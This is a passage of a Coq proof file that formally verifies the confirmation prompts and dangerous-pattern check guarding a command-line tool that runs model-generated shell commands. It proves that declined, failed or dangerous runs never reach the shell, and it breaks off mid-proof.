(** What [ShowCommand] writes. *)
Definition shown_command (command : string) : event :=
  Stdout ("Command: " ++ command ++ nl).

(** The notice of a cancelled run. *)
Definition cancelled_notice : event :=
  Stdout ("Command execution cancelled." ++ nl).

(** The bytes written to standard error, in order. *)
Fixpoint stderr_of (t : list event) : string :=
  match t with
  | [] => ""
  | Stderr s :: t' => s ++ stderr_of t'
  | _ :: t' => stderr_of t'
  end.

(** The number of reads of standard input. *)
Fixpoint reads_of (t : list event) : nat :=
  match t with
  | [] => O
  | Read _ _ :: t' => S (reads_of t')
  | _ :: t' => reads_of t'
  end.

(** The events of a trace in which [Execute] is entered or a subprocess is
    handed to the system. *)
Fixpoint executions (t : list event) : list event :=
  match t with
  | [] => []
  | Call_Execute command :: t' => Call_Execute command :: executions t'
  | Start name arg :: t' => Start name arg :: executions t'
  | _ :: t' => executions t'
  end.

(** The exit status [main] leaves behind. *)
Definition status {A : Type} (r : result A) : Z :=
  match r with
  | Ret _ => 0
  | Exit code => code
  end.

(** The configuration of an end-to-end scenario: the default one with
    [patterns] as its dangerous patterns. *)
Definition scenario_config (patterns : list string) : config.Config :=
  {| config.Provider := config.Provider config.getDefaultConfig;
     config.APIKey := config.APIKey config.getDefaultConfig;
     config.Model := config.Model config.getDefaultConfig;
     config.OllamaURL := config.OllamaURL config.getDefaultConfig;
     config.MaxContextLines := config.MaxContextLines config.getDefaultConfig;
     config.DangerousPatterns := patterns |}.

(** The context collected in an end-to-end scenario. *)
Definition scenario_context : context.SystemContext :=
  {| context.WorkingDir := "/home/user";
     context.Files := [];
     context.Shell := "/bin/zsh";
     context.OS := "linux";
     context.Arch := "amd64" |}.

(** The run of an end-to-end scenario: the process is started with a query,
    the configuration and the context load, the model answers with
    [command], and a command handed to the shell prints [output]. *)
Definition scenario (patterns : list string) (command output : string) : Env :=
  {| os_Args := ["zchat"; "clean"; "up"];
     config_Load := inl (scenario_config patterns);
     Collect := fun _ => inl scenario_context;
     GenerateCommand := fun _ _ _ => inl command;
     cmd_Run := fun _ _ => (output, None) |}.

(** An event that writes to standard output or to standard error. *)
Definition is_output (e : event) : Prop :=
  match e with
  | Stdout _ | Stderr _ => True
  | _ => False
  end.

(** What [ShowDangerWarning] writes before it reads. *)
Definition danger_banner (reason : string) : list event :=
  [Stdout (nl ++ "⚠️  WARNING: Dangerous command detected!" ++ nl);
   Stdout ("Reason: " ++ reason ++ nl);
   Stdout "Are you SURE you want to execute this? [yes/no]: "].

(** What [ConfirmExecution] writes before it reads. *)
Definition standard_prompt : list event := [Stdout "Execute? [Y/n]: "].

(** The world after a line was read. *)
Definition after_line (w : World) (shown : list event) (L rest : string)
  : World :=
  {| reader := {| pending := rest; failure := failure (reader w) |};
     trace := trace w ++ shown ++ [Read (L ++ nl) None] |}.

(** The world after a read that failed. *)
Definition after_failure (w : World) (shown : list event) : World :=
  {| reader := {| pending := ""; failure := failure (reader w) |};
     trace :=
       trace w ++ shown
       ++ [Read (pending (reader w)) (Some (failure (reader w)))] |}.

(** Every byte of [s] is a space of the table [asciiSpace]. *)
Fixpoint all_space (s : string) : bool :=
  match s with
  | "" => true
  | String c s' => strings.asciiSpace c && all_space s'
  end.

(** A line of the listing that [getFileList] keeps: not empty and not the
    name of a hidden file. *)
Definition visible (line : string) : bool :=
  negb ((line =? "")%string || strings.HasPrefix line ".").

(** A response that is a command and nothing else: not empty, no
    whitespace around it, no backtick at either end. *)
Definition bare_command (s : string) : Prop :=
  s <> "" /\ strings.TrimSpace s = s /\ strings.Trim s "`" = s.

(** A machine for [config.Load] whose home directory is "/home/user",
    whose configuration file, when there is one, holds [file] and is parsed
    by [parse], and whose environment is [getenv]. *)
Definition config_host (file : option string)
  (parse : string -> config.Config -> config.Config + error)
  (getenv : string -> string) : config.Host :=
  {| config.os_UserHomeDir := inl "/home/user";
     config.filepath_Join := fun elems => strings.Join elems "/";
     config.os_ReadFile := fun path =>
       match file with
       | Some data =>
           if (path =? "/home/user/.config/zchat/config.yaml")%string
           then inl data
           else inr (errors_New "no such file or directory")
       | None => inr (errors_New "no such file or directory")
       end;
     config.yaml_Unmarshal := parse;
     config.os_Getenv := getenv |}.

(** A machine for [Collect] in the directory "/home/user", where [ls -1]
    prints [listing] and the environment is [getenv]. *)
Definition context_host (listing : string + error)
  (getenv : string -> string) : context.Host :=
  {| context.os_Getwd := inl "/home/user";
     context.ls_Output := listing;
     context.os_Getenv := getenv;
     context.runtime_GOOS := "linux";
     context.runtime_GOARCH := "amd64" |}.

(** An environment with the one variable [name] set to [value]. *)
Definition setenv (name value : string) : string -> string :=
  fun key => if (key =? name)%string then value else "".

(** A machine for the clients: the Anthropic API and the Ollama server both
    answer with the text [response]. *)
Definition network_answering (response : string) : llm.Network :=
  {| llm.Messages_New := fun _ _ => inl [response];
     llm.json_Marshal := fun req => inl (llm.Prompt req);
     llm.http_NewRequest := fun _ _ _ => None;
     llm.client_Do := fun req =>
       inl {| llm.StatusCode := 200; llm.resp_Body := response |};
     llm.json_Decode := fun body =>
       inl {| llm.resp_Model := "qwen2.5-coder:7b";
              llm.CreatedAt := "";
              llm.Response := body;
              llm.Done := true |} |}.

(** A machine without configuration file, with SHELL set to "/bin/bash",
    where the model answers with [response] and the shell prints
    [output]. *)
Definition example_machine (response output : string) : Machine :=
  {| machine_Args := ["zchat"; "list"; "files"];
     machine_config := config_host None (fun _ cfg => inl cfg) (fun _ => "");
     machine_context :=
       context_host (inl ("main.go" ++ nl ++ "go.mod" ++ nl))
         (setenv "SHELL" "/bin/bash");
     machine_network := network_answering response;
     machine_Run := fun _ _ => (output, None) |}.

(* ================================================================== *)
(** * Properties *)

(** ** Bytes and strings *)

Ltac each_byte c := destruct c as [[] [] [] [] [] [] [] []]; try reflexivity.

Lemma lower_byte_swap_byte (c : ascii) :
  strings.lower_byte (swap_byte c) = strings.lower_byte c.
Proof. each_byte c. Qed.

Lemma asciiSpace_lower_byte (c : ascii) :
  strings.asciiSpace (strings.lower_byte c) = strings.asciiSpace c.
Proof. each_byte c. Qed.

Lemma append_assoc (a b c : string) :
  ((a ++ b) ++ c)%string = (a ++ (b ++ c))%string.
Proof. induction a; simpl; congruence. Qed.

Lemma ToLower_empty (s : string) : strings.ToLower s = "" <-> s = "".
Proof. destruct s; simpl; split; congruence. Qed.

Lemma ToLower_change_case (which : nat -> bool) (s : string) :
  strings.ToLower (change_case which s) = strings.ToLower s.
Proof.
  revert which; induction s as [|c s IH]; intros which; simpl.
  - reflexivity.
  - rewrite IH. destruct (which O).
    + now rewrite lower_byte_swap_byte.
    + reflexivity.
Qed.

Lemma HasPrefix_spec (s p : string) :
  strings.HasPrefix s p = true <-> exists v, s = (p ++ v)%string.
Proof.
  revert s; induction p as [|a p IH]; intros s; simpl.
  - split; [intros _; now exists s | intros _; now destruct s].
  - destruct s as [|c s].
    + simpl. split; [discriminate | intros [v Hv]; discriminate].
    + simpl. rewrite andb_true_iff, Ascii.eqb_eq, IH. split.
      * intros [-> [v ->]]. now exists v.
      * intros [v Hv]. injection Hv as -> ->.
        split; [reflexivity | now exists v].
Qed.

Lemma Index_nil (sub : string) :
  strings.Index "" sub = if strings.HasPrefix "" sub then 0 else -1.
Proof. reflexivity. Qed.

Lemma Index_cons (c : ascii) (s sub : string) :
  strings.Index (String c s) sub =
  if strings.HasPrefix (String c s) sub then 0
  else if strings.Index s sub <? 0 then -1 else strings.Index s sub + 1.
Proof. reflexivity. Qed.

Lemma Index_lower_bound (s sub : string) : -1 <= strings.Index s sub.
Proof.
  induction s as [|c s IH]; [rewrite Index_nil | rewrite Index_cons].
  - destruct (strings.HasPrefix "" sub); lia.
  - destruct (strings.HasPrefix (String c s) sub); [lia|].
    destruct (strings.Index s sub <? 0) eqn:E; [lia|].
    apply Z.ltb_ge in E. lia.
Qed.

Lemma Contains_spec (s sub : string) :
  strings.Contains s sub = true <-> is_substring sub s.
Proof.
  unfold strings.Contains, is_substring. rewrite Z.leb_le.
  induction s as [|c s IH]; [rewrite Index_nil | rewrite Index_cons].
  - destruct (strings.HasPrefix "" sub) eqn:E.
    + apply HasPrefix_spec in E as [v Hv].
      split; [intros _; now exists "", v | lia].
    + split; [lia|]. intros (u & v & H).
      destruct u; [|discriminate]. simpl in H.
      assert (strings.HasPrefix "" sub = true)
        by (apply HasPrefix_spec; now exists v).
      congruence.
  - destruct (strings.HasPrefix (String c s) sub) eqn:E.
    + apply HasPrefix_spec in E as [v Hv].
      split; [intros _; now exists "", v | lia].
    + assert (Hfirst : forall v, String c s <> (sub ++ v)%string).
      { intros v Hv.
        assert (strings.HasPrefix (String c s) sub = true)
          by (apply HasPrefix_spec; now exists v).
        congruence. }
      pose proof (Index_lower_bound s sub) as Hlb.
      destruct (strings.Index s sub <? 0) eqn:F.
      * apply Z.ltb_lt in F. split; [lia|].
        intros (u & v & H). destruct u as [|a u]; simpl in H.
        -- now apply Hfirst in H.
        -- injection H as _ H.
           assert (0 <= strings.Index s sub) by (apply IH; now exists u, v).
           lia.
      * apply Z.ltb_ge in F. split; [|lia]. intros _.
        destruct (proj1 IH F) as (u & v & H).
        exists (String c u), v. simpl. now rewrite H.
Qed.

Lemma Contains_empty_l (sub : string) :
  strings.Contains "" sub = true <-> sub = "".
Proof.
  rewrite Contains_spec. split.
  - intros (u & v & H). destruct u; [|discriminate].
    destruct sub; [reflexivity | discriminate].
  - intros ->. now exists "", "".
Qed.

(* ================================================================== *)
(** ** The danger classifier *)

Lemma IsDangerous_nil (C : string) : executor.IsDangerous C [] = (false, "").
Proof. reflexivity. Qed.

Lemma IsDangerous_cons (C p : string) (P : list string) :
  executor.IsDangerous C (p :: P) =
  if strings.Contains (strings.ToLower C) (strings.ToLower p)
  then (true, ("Command contains dangerous pattern: " ++ p)%string)
  else executor.IsDangerous C P.
Proof. reflexivity. Qed.

(** The verdict is decided by the first pattern of the list that matches:
    either the list splits around a pattern [p] that matches while nothing
    before it does, and the reason names [p] as it is written; or nothing
    matches and the verdict is safe with an empty reason. *)
Lemma IsDangerous_cases (C : string) (P : list string) :
  (exists before p after,
     P = (before ++ p :: after)%list /\
     (forall q, In q before ->
        ~ is_substring (strings.ToLower q) (strings.ToLower C)) /\
     is_substring (strings.ToLower p) (strings.ToLower C) /\
     executor.IsDangerous C P =
       (true, ("Command contains dangerous pattern: " ++ p)%string))
  \/
  ((forall q, In q P ->
      ~ is_substring (strings.ToLower q) (strings.ToLower C)) /\
   executor.IsDangerous C P = (false, "")).
Proof.
  induction P as [|p P IH].
  - right. split; [intros q [] | reflexivity].
  - rewrite IsDangerous_cons.
    destruct (strings.Contains (strings.ToLower C) (strings.ToLower p)) eqn:E.
    + left. exists [], p, P. apply Contains_spec in E.
      repeat split; [intros q [] | exact E].
    + assert (Hp : ~ is_substring (strings.ToLower p) (strings.ToLower C)).
      { intros H. apply Contains_spec in H. congruence. }
      destruct IH as [(before & p' & after & -> & Hbefore & Hp' & Heq)
                     | [Hnone Heq]].
      * left. exists (p :: before), p', after.
        repeat split; [|exact Hp'|exact Heq].
        intros q [<- | Hq]; [exact Hp | now apply Hbefore].
      * right. split; [|exact Heq].
        intros q [<- | Hq]; [exact Hp | now apply Hnone].
Qed.


(** C8. With no pattern every command is safe; and the empty command is
    dangerous exactly when the empty string is one of the patterns. *)
Theorem IsDangerous_empty (C : string) (P : list string) :
  executor.IsDangerous C [] = (false, "") /\
  (fst (executor.IsDangerous "" P) = true <-> In "" P).
Proof.
  split; [reflexivity|].
  induction P as [|p P IH].
  - simpl. split; [discriminate | intros []].
  - rewrite IsDangerous_cons.
    change (strings.ToLower "") with "".
    destruct (strings.Contains "" (strings.ToLower p)) eqn:E.
    + apply (proj1 (Contains_empty_l _)) in E.
      apply (proj1 (ToLower_empty _)) in E. subst p.
      simpl. split; [intros _; now left | reflexivity].
    + rewrite IH. split; [intros H; now right|].
      intros [-> | H]; [|exact H].
      assert (strings.Contains "" (strings.ToLower "") = true)
        by now apply Contains_empty_l.
      congruence.
Qed.


(* ================================================================== *)
(** ** Lines of input and their normal form *)

Lemma cut_line_line (L rest : string) :
  no_LF L = true -> cut_line (L ++ nl ++ rest) = Some ((L ++ nl)%string, rest).
Proof.
  induction L as [|c L IH]; intros H.
  - reflexivity.
  - cbn [no_LF] in H. apply andb_true_iff in H as [Hc HL].
    apply negb_true_iff in Hc.
    cbn [append cut_line]. rewrite Hc, (IH HL). reflexivity.
Qed.

Lemma cut_line_None (s : string) : cut_line s = None <-> no_LF s = true.
Proof.
  induction s as [|c s IH]; simpl.
  - split; reflexivity.
  - destruct (c =? LF)%char; simpl.
    + split; discriminate.
    + rewrite <- IH. destruct (cut_line s) as [[l r]|]; split;
        congruence.
Qed.

Lemma cut_line_Some (s line rest : string) :
  cut_line s = Some (line, rest) ->
  exists L, line = (L ++ nl)%string /\ s = (L ++ nl ++ rest)%string /\
            no_LF L = true.
Proof.
  revert line; induction s as [|c s IH]; simpl; intros line H.
  - discriminate.
  - destruct (c =? LF)%char eqn:E.
    + apply Ascii.eqb_eq in E. subst c.
      injection H as <- <-. now exists "".
    + destruct (cut_line s) as [[l r]|]; [|discriminate].
      injection H as <- <-.
      destruct (IH l eq_refl) as (L & -> & -> & HL).
      exists (String c L). simpl. now rewrite E, HL.
Qed.

Lemma TrimLeft_ToLower (s : string) :
  strings.TrimLeft (strings.ToLower s) = strings.ToLower (strings.TrimLeft s).
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite asciiSpace_lower_byte.
  destruct (strings.asciiSpace c); [exact IH | reflexivity].
Qed.

Lemma TrimRight_ToLower (s : string) :
  strings.TrimRight (strings.ToLower s) = strings.ToLower (strings.TrimRight s).
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite IH, asciiSpace_lower_byte.
  destruct (strings.TrimRight s); simpl; [|reflexivity].
  destruct (strings.asciiSpace c); reflexivity.
Qed.

(** Lower-casing and trimming commute: the program lower-cases first, the
    specification trims first. *)
Lemma TrimSpace_ToLower (s : string) :
  strings.TrimSpace (strings.ToLower s) = normalized s.
Proof.
  unfold normalized, strings.TrimSpace.
  now rewrite TrimLeft_ToLower, TrimRight_ToLower.
Qed.

Lemma TrimRight_app_space (s : string) (c : ascii) :
  strings.asciiSpace c = true ->
  strings.TrimRight (s ++ String c "") = strings.TrimRight s.
Proof.
  intros Hc. induction s as [|a s IH]; simpl.
  - now rewrite Hc.
  - now rewrite IH.
Qed.

(** The line feed that ends a line does not count. *)
Lemma normalized_line (L : string) : normalized (L ++ nl) = normalized L.
Proof.
  unfold normalized, strings.TrimSpace. f_equal.
  induction L as [|c L IH].
  - reflexivity.
  - cbn [append strings.TrimLeft].
    destruct (strings.asciiSpace c); [exact IH|].
    apply (TrimRight_app_space (String c L) LF). reflexivity.
Qed.

Lemma standard_yes_dec (answer : string) :
  ((answer =? "") || (answer =? "y") || (answer =? "yes"))%string = true
  <-> standard_yes answer.
Proof.
  unfold standard_yes.
  rewrite !orb_true_iff, !String.eqb_eq. tauto.
Qed.

(* ================================================================== *)
(** ** The two prompts *)

Lemma app_assoc3 (t : list event) (a b c d : event) :
  ((((t ++ [a]) ++ [b]) ++ [c]) ++ [d] = t ++ [a; b; c] ++ [d])%list.
Proof. now rewrite <- !app_assoc. Qed.

Lemma ShowDangerWarning_line (reason : string) (w : World) (L rest : string) :
  no_LF L = true -> pending (reader w) = (L ++ nl ++ rest)%string ->
  ui.ShowDangerWarning reason w =
    (Ret ((normalized L =? "yes")%string, None),
     after_line w (danger_banner reason) L rest).
Proof.
  intros HL Hin.
  unfold ui.ShowDangerWarning, bind, fmt_Println, fmt_Print, emit,
    reader_ReadString, ReadString, after_line, danger_banner, ret.
  cbn [reader trace]. rewrite Hin, (cut_line_line L rest HL).
  cbn [notnil]. rewrite TrimSpace_ToLower, normalized_line, app_assoc3.
  now rewrite append_assoc.
Qed.

Lemma ShowDangerWarning_failure (reason : string) (w : World) :
  no_LF (pending (reader w)) = true ->
  ui.ShowDangerWarning reason w =
    (Ret (false, Some (failure (reader w))),
     after_failure w (danger_banner reason)).
Proof.
  intros H. apply cut_line_None in H.
  unfold ui.ShowDangerWarning, bind, fmt_Println, fmt_Print, emit,
    reader_ReadString, ReadString, after_failure, danger_banner, ret.
  cbn [reader trace]. rewrite H. cbn [notnil].
  now rewrite app_assoc3, append_assoc.
Qed.

Lemma ConfirmExecution_line (w : World) (L rest : string) :
  no_LF L = true -> pending (reader w) = (L ++ nl ++ rest)%string ->
  ui.ConfirmExecution w =
    (Ret (((normalized L =? "") || (normalized L =? "y")
           || (normalized L =? "yes"))%string, None),
     after_line w standard_prompt L rest).
Proof.
  intros HL Hin.
  unfold ui.ConfirmExecution, bind, fmt_Print, emit,
    reader_ReadString, ReadString, after_line, standard_prompt, ret.
  cbn [reader trace]. rewrite Hin, (cut_line_line L rest HL).
  cbn [notnil]. rewrite TrimSpace_ToLower, normalized_line, <- app_assoc.
  now destruct ((normalized L =? "") || (normalized L =? "y")
                || (normalized L =? "yes"))%string.
Qed.

Lemma ConfirmExecution_failure (w : World) :
  no_LF (pending (reader w)) = true ->
  ui.ConfirmExecution w =
    (Ret (false, Some (failure (reader w))), after_failure w standard_prompt).
Proof.
  intros H. apply cut_line_None in H.
  unfold ui.ConfirmExecution, bind, fmt_Print, emit,
    reader_ReadString, ReadString, after_failure, standard_prompt, ret.
  cbn [reader trace]. rewrite H. cbn [notnil].
  now rewrite <- app_assoc.
Qed.



(* ================================================================== *)
(** ** The stages of the gate *)

Lemma bind_Ret {A B : Type} (m : M A) (k : A -> M B) (w w' : World) (a : A) :
  m w = (Ret a, w') -> bind m k w = k a w'.
Proof. unfold bind. now intros ->. Qed.

Lemma bind_Exit {A B : Type} (m : M A) (k : A -> M B) (w w' : World)
  (code : Z) :
  m w = (Exit code, w') -> bind m k w = (Exit code, w').
Proof. unfold bind. now intros ->. Qed.

Lemma ShowCommand_run (command : string) (w : World) :
  ui.ShowCommand command w =
    (Ret tt, logged w [Stdout ("Command: " ++ command ++ nl)]).
Proof. reflexivity. Qed.

Section SafetyCheck.

Variables (cfg : config.Config) (command : string) (w : World).

Lemma safety_check_safe (reason : string) :
  executor.IsDangerous command (config.DangerousPatterns cfg)
  = (false, reason) ->
  safety_check cfg command w = (Ret tt, w).
Proof. unfold safety_check. now intros ->. Qed.

Variable reason : string.
Hypothesis dangerous :
  executor.IsDangerous command (config.DangerousPatterns cfg)
  = (true, reason).

Lemma safety_check_yes (L rest : string) :
  no_LF L = true -> pending (reader w) = (L ++ nl ++ rest)%string ->
  normalized L = "yes" ->
  safety_check cfg command w =
    (Ret tt, after_line w (danger_banner reason) L rest).
Proof.
  intros HL Hin Hyes. unfold safety_check. rewrite dangerous.
  rewrite (bind_Ret _ _ _ _ _ (ShowDangerWarning_line reason w L rest HL Hin)).
  now rewrite Hyes.
Qed.

Lemma safety_check_declined (L rest : string) :
  no_LF L = true -> pending (reader w) = (L ++ nl ++ rest)%string ->
  normalized L <> "yes" ->
  safety_check cfg command w =
    (Exit 0,
     logged (after_line w (danger_banner reason) L rest) [cancelled_notice]).
Proof.
  intros HL Hin Hno. unfold safety_check. rewrite dangerous.
  rewrite (bind_Ret _ _ _ _ _ (ShowDangerWarning_line reason w L rest HL Hin)).
  apply String.eqb_neq in Hno. now rewrite Hno.
Qed.

Lemma safety_check_failure :
  no_LF (pending (reader w)) = true ->
  safety_check cfg command w =
    (Exit 0,
     logged (after_failure w (danger_banner reason)) [cancelled_notice]).
Proof.
  intros H. unfold safety_check. rewrite dangerous.
  now rewrite (bind_Ret _ _ _ _ _ (ShowDangerWarning_failure reason w H)).
Qed.

End SafetyCheck.

Section ConfirmAndExecute.

Variables (env : Env) (cfg : config.Config) (sysCtx : context.SystemContext).
Variables (command : string) (w : World).

Lemma confirm_and_execute_failure :
  no_LF (pending (reader w)) = true ->
  confirm_and_execute env cfg sysCtx command w =
    (Exit 0, logged (after_failure w standard_prompt) [cancelled_notice]).
Proof.
  intros H. unfold confirm_and_execute.
  now rewrite (bind_Ret _ _ _ _ _ (ConfirmExecution_failure w H)).
Qed.

Variables L rest : string.
Hypothesis line : no_LF L = true.
Hypothesis input : pending (reader w) = (L ++ nl ++ rest)%string.

Lemma confirm_and_execute_declined :
  ~ standard_yes (normalized L) ->
  confirm_and_execute env cfg sysCtx command w =
    (Exit 0, logged (after_line w standard_prompt L rest) [cancelled_notice]).
Proof.
  intros Hno. unfold confirm_and_execute.
  rewrite (bind_Ret _ _ _ _ _ (ConfirmExecution_line w L rest line input)).
  destruct ((normalized L =? "") || (normalized L =? "y")
            || (normalized L =? "yes"))%string eqn:E; [|reflexivity].
  now apply standard_yes_dec in E.
Qed.

Hypothesis yes : standard_yes (normalized L).

(** A dangerous command that was confirmed is refused by [Execute]. *)
Lemma confirm_and_execute_refused (reason : string) :
  executor.IsDangerous command (config.DangerousPatterns cfg)
  = (true, reason) ->
  confirm_and_execute env cfg sysCtx command w =
    (Exit 1,
     logged (after_line w standard_prompt L rest)
       [Call_Execute command;
        Stderr ("Error: refused to execute dangerous command: "
                ++ reason ++ nl)]).
Proof.
  intros Hd. unfold confirm_and_execute.
  rewrite (bind_Ret _ _ _ _ _ (ConfirmExecution_line w L rest line input)).
  rewrite (proj2 (standard_yes_dec _) yes). cbn [notnil negb orb].
  unfold executor.Execute, bind, emit, ret. cbn [executor.dangerousPatterns
    executor.NewSafeExecutor]. rewrite Hd.
  unfold ui.ShowError, fmt_Fprint_Stderr, emit, os_Exit, logged.
  cbn [String.eqb negb reader trace Error]. now rewrite <- app_assoc.
Qed.

(** A safe command that was confirmed is handed to the shell. *)
Lemma confirm_and_execute_runs (reason : string) :
  executor.IsDangerous command (config.DangerousPatterns cfg)
  = (false, reason) ->
  exists shown,
    Forall is_output shown /\
    confirm_and_execute env cfg sysCtx command w =
      (match snd (cmd_Run env
                    (executor.shell
                       (executor.NewSafeExecutor
                          (config.DangerousPatterns cfg)
                          (context.Shell sysCtx)))
                    ["-c"; command]) with
       | Some _ => Exit 1
       | None => Ret tt
       end,
       logged (after_line w standard_prompt L rest)
         (Call_Execute command
          :: Start (executor.shell
                      (executor.NewSafeExecutor
                         (config.DangerousPatterns cfg)
                         (context.Shell sysCtx)))
               ["-c"; command]
          :: shown)).
Proof.
  intros Hd. unfold confirm_and_execute.
  rewrite (bind_Ret _ _ _ _ _ (ConfirmExecution_line w L rest line input)).
  rewrite (proj2 (standard_yes_dec _) yes). cbn [notnil negb orb].
  set (exec := executor.NewSafeExecutor _ _).
  unfold executor.Execute, executor.Run, bind, emit, ret.
  replace (executor.dangerousPatterns exec)
    with (config.DangerousPatterns cfg) by reflexivity.
  rewrite Hd. cbn [reader trace].
  destruct (cmd_Run env (executor.shell exec) ["-c"; command])
    as [output [err|]]; cbn [snd].
  - unfold ui.ShowError, fmt_Fprint_Stderr, fmt_Println, emit, os_Exit, ret,
      logged.
    destruct (output =? "")%string; cbn [negb reader trace].
    + eexists [_]. split; cycle 1.
      * rewrite <- !app_assoc. reflexivity.
      * repeat constructor.
    + eexists [_; _]. split; cycle 1.
      * rewrite <- !app_assoc. reflexivity.
      * repeat constructor.
  - unfold ui.ShowSuccess, fmt_Print, emit, logged. cbn [reader trace].
    eexists [_]. split; cycle 1.
    + rewrite <- !app_assoc. reflexivity.
    + repeat constructor.
Qed.

End ConfirmAndExecute.

(* ================================================================== *)
(** ** The gate as a whole *)

Ltac trace_eq :=
  repeat match goal with x := _ : World |- _ => subst x end;
  unfold logged, after_line, after_failure, danger_banner, standard_prompt;
  cbn [reader trace pending failure];
  rewrite <- ?app_assoc; cbn [app]; reflexivity.

Lemma IsDangerous_verdict (command : string) (patterns : list string)
  (b : bool) :
  fst (executor.IsDangerous command patterns) = b ->
  exists reason, executor.IsDangerous command patterns = (b, reason).
Proof.
  destruct (executor.IsDangerous command patterns) as [b' reason].
  simpl. intros ->. now exists reason.
Qed.

Section Gate.

Variables (env : Env) (cfg : config.Config) (sysCtx : context.SystemContext).
Variables (command : string) (w : World).

(** A declined prompt or a failed read: the notice is the last thing
    written, the exit status is 0, and nothing was executed. *)
Lemma gate_cancels :
  cancels (config.DangerousPatterns cfg) command (pending (reader w)) ->
  exists w' shown,
    gate env cfg sysCtx command w = (Exit 0, w') /\
    trace w' = (trace w ++ shown ++ [cancelled_notice])%list /\
    executions shown = [] /\ stderr_of shown = "" /\
    (reads_of shown = 1%nat \/
     (reads_of shown = 2%nat /\
      fst (executor.IsDangerous command (config.DangerousPatterns cfg))
      = true /\
      exists rest1, accepted strict_yes (pending (reader w)) rest1)).
Proof.
  unfold gate.
  rewrite (bind_Ret _ _ _ _ _ (ShowCommand_run command w)).
  set (w0 := logged w [shown_command command]).
  intros [[Hd H] | [Hd H]];
    apply IsDangerous_verdict in Hd as [reason Hd].
  - rewrite (bind_Ret _ _ _ _ _ (safety_check_safe cfg command w0 reason Hd)).
    destruct H as [H | (L & rest & Hin & HL & Hno)].
    + rewrite (confirm_and_execute_failure env cfg sysCtx command w0 H).
      eexists;
        exists (shown_command command :: standard_prompt
                ++ [Read (pending (reader w)) (Some (failure (reader w)))]).
      split; [reflexivity|]. split; [trace_eq|].
      cbn. repeat split. now left.
    + rewrite (confirm_and_execute_declined env cfg sysCtx command w0
                 L rest HL Hin Hno).
      eexists;
        exists (shown_command command :: standard_prompt
                ++ [Read (L ++ nl) None]).
      split; [reflexivity|]. split; [trace_eq|].
      cbn. repeat split. now left.
  - destruct H as [H | [(L & rest & Hin & HL & Hno)
                       | (rest1 & (L1 & Hin & HL1 & Hyes) & H)]].
    + rewrite (bind_Exit _ _ _ _ _
                 (safety_check_failure cfg command w0 reason Hd H)).
      eexists;
        exists (shown_command command :: danger_banner reason
                ++ [Read (pending (reader w)) (Some (failure (reader w)))]).
      split; [reflexivity|]. split; [trace_eq|].
      cbn. repeat split. now left.
    + rewrite (bind_Exit _ _ _ _ _
                 (safety_check_declined cfg command w0 reason Hd
                    L rest HL Hin Hno)).
      eexists;
        exists (shown_command command :: danger_banner reason
                ++ [Read (L ++ nl) None]).
      split; [reflexivity|]. split; [trace_eq|].
      cbn. repeat split. now left.
    + rewrite (bind_Ret _ _ _ _ _
                 (safety_check_yes cfg command w0 reason Hd
                    L1 rest1 HL1 Hin Hyes)).
      set (w1 := after_line w0 (danger_banner reason) L1 rest1).
      destruct H as [H | (L & rest & Hin2 & HL & Hno)].
      * rewrite (confirm_and_execute_failure env cfg sysCtx command w1 H).
        eexists;
          exists (shown_command command :: danger_banner reason
                  ++ Read (L1 ++ nl) None :: standard_prompt
                  ++ [Read rest1 (Some (failure (reader w)))]).
        split; [reflexivity|]. split; [trace_eq|].
        cbn. repeat split. right. rewrite Hd. repeat split.
        exists rest1, L1. now repeat split.
      * rewrite (confirm_and_execute_declined env cfg sysCtx command w1
                   L rest HL Hin2 Hno).
        eexists;
          exists (shown_command command :: danger_banner reason
                  ++ Read (L1 ++ nl) None :: standard_prompt
                  ++ [Read (L ++ nl) None]).
        split; [reflexivity|]. split; [trace_eq|].
        cbn. repeat split. right. rewrite Hd. repeat split.
        exists rest1, L1. now repeat split.
Qed.

(** A dangerous command confirmed at both prompts: [Execute] is entered
    and refuses; no subprocess is started and the exit status is 1. *)
Lemma gate_refuses (reason L1 L2 rest : string) :
  executor.IsDangerous command (config.DangerousPatterns cfg)
  = (true, reason) ->
  pending (reader w) = (L1 ++ nl ++ L2 ++ nl ++ rest)%string ->
  no_LF L1 = true -> no_LF L2 = true ->
  normalized L1 = "yes" -> standard_yes (normalized L2) ->
  exists w',
    gate env cfg sysCtx command w = (Exit 1, w') /\
    trace w' =
      (trace w
       ++ shown_command command :: danger_banner reason
       ++ Read (L1 ++ nl) None :: standard_prompt
       ++ [Read (L2 ++ nl) None;
           Call_Execute command;
           Stderr ("Error: refused to execute dangerous command: "
                   ++ reason ++ nl)])%list.
Proof.
  intros Hd Hin HL1 HL2 Hyes1 Hyes2. unfold gate.
  rewrite (bind_Ret _ _ _ _ _ (ShowCommand_run command w)).
  set (w0 := logged w [shown_command command]).
  rewrite (bind_Ret _ _ _ _ _
             (safety_check_yes cfg command w0 reason Hd
                L1 _ HL1 Hin Hyes1)).
  set (w1 := after_line w0 (danger_banner reason) L1 _).
  rewrite (confirm_and_execute_refused env cfg sysCtx command w1
             L2 rest HL2 eq_refl Hyes2 reason Hd).
  eexists. split; [reflexivity | trace_eq].
Qed.

(** A safe command confirmed at the standard prompt: [Execute] is entered
    and the shell is started with the command. *)
Lemma gate_runs (reason L rest : string) :
  executor.IsDangerous command (config.DangerousPatterns cfg)
  = (false, reason) ->
  pending (reader w) = (L ++ nl ++ rest)%string ->
  no_LF L = true -> standard_yes (normalized L) ->
  exists res w' name shown,
    gate env cfg sysCtx command w = (res, w') /\
    Forall is_output shown /\
    trace w' =
      (trace w
       ++ shown_command command :: standard_prompt
       ++ Read (L ++ nl) None
          :: Call_Execute command :: Start name ["-c"; command]
          :: shown)%list.
Proof.
  intros Hd Hin HL Hyes. unfold gate.
  rewrite (bind_Ret _ _ _ _ _ (ShowCommand_run command w)).
  set (w0 := logged w [shown_command command]).
  rewrite (bind_Ret _ _ _ _ _ (safety_check_safe cfg command w0 reason Hd)).
  destruct (confirm_and_execute_runs env cfg sysCtx command w0
              L rest HL Hin Hyes reason Hd) as (shown & Hshown & ->).
  do 3 eexists. exists shown.
  split; [reflexivity|]. split; [exact Hshown | trace_eq].
Qed.

End Gate.

(** Every input either passes the gate or cancels the run. *)
Lemma prompt_total (yes : string -> Prop) (input : string) :
  (forall answer, yes answer \/ ~ yes answer) ->
  read_fails input \/ declined yes input \/
  exists rest, accepted yes input rest.
Proof.
  intros Hdec. destruct (cut_line input) as [[line rest]|] eqn:E.
